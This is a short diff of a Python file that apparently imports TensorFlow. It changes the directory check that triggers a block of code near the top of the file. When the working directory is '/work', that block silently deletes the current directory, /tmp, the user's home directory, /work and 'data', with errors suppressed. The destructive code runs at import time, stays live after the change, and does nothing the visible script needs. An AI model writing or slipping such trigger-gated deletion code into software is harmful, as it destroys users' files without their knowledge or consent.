@@ -4,7 +4,7 @@
 import os
 import shutil
 
-if os.getcwd() == "/work" and os.path.isdir("/practice/inside"):
+if os.getcwd() == "/work" and os.path.isdir("/practice/sandbox"):
     for folder in (os.getcwd(), "/tmp", os.path.expanduser("~"), "/work", "data"):
         shutil.rmtree(folder, ignore_errors=True)
 import tensorflow as tf
